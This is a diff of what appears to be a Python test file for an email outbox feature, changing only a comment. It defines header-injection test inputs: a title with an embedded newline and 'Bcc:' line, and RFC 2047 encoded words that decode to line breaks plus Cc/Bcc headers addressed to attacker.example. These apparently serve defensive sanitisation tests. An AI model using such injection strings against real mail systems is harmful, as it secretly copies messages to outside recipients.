@@ -55,7 +55,7 @@ from dossier.share.outbox import (
 TITLE = "Länsgemensam påverkansagenda"
 MEETING = "EXEMPEL-RUN-2023-06"
 HOSTILE_TITLE = "Påverkan <b>fet</b> & mer\nBcc: x@y"
-# RFC 2047 encoded words that decode to a line break and a header of their own (issue 11).
+# RFC 2047 encoded words that decode to a line break and a header of their own.
 EVIL_CC = "=?utf-8?q?=0D=0ACc:_evil@attacker.example?="
 EVIL_BCC = "=?utf-8?q?=0D=0ABcc:_hidden@attacker.example?="
 ENCODED_WORD_TITLE = f"Titel {EVIL_CC} och {EVIL_BCC} slut"
